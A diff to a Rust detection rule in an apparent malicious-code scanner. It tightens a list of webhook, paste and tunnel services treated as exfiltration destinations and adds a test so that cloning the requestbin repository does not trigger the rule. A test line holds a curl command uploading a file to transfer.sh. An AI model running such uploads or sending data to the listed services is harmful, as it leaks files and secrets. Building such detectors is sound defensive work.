@@ -230,7 +230,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "exfil_service",
         evidence: "sends data to a webhook, paste or out-of-band service (Discord/Telegram/pastebin/ngrok)",
         all_of: &[&[
-            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
+            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin.net", "requestbin.com", "requestb.in", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
         ]],
         confirm: Confirm::Literals,
     },
@@ -1074,6 +1074,11 @@ mod tests {
         ));
         assert!(fires(
             "curl --upload-file ./k https://transfer.sh/k",
+            "exfil_service"
+        ));
+        // Building the requestbin service is not sending data to one.
+        assert!(!fires(
+            "git clone --depth 1 https://github.com/Runscope/requestbin /src",
             "exfil_service"
         ));
     }
